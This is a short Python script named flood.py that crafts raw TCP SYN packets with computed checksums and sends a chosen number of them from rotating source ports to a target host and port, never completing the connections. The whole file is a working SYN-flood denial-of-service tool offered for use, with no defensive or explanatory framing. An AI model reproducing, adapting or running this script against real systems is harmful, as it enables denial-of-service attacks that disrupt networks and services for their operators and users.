"""Opens TCP connections and never goes on: flood.py FROM TO PORT COUNT sends COUNT SYNs, each from another port."""
import array
import socket
import struct
import sys

source, target, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.bind((source, 0))
pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)


def checksum(data):
    total = sum(array.array("H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return socket.htons(~(total + (total >> 16)) & 0xFFFF)


for n in range(count):
    fields = [1024 + n % 64000, port, n, 0, 5 << 4, 2, 65535, 0, 0]
    fields[7] = checksum(pseudo + struct.pack("!HHLLBBHHH", *fields))
    raw.sendto(struct.pack("!HHLLBBHHH", *fields), (target, 0))
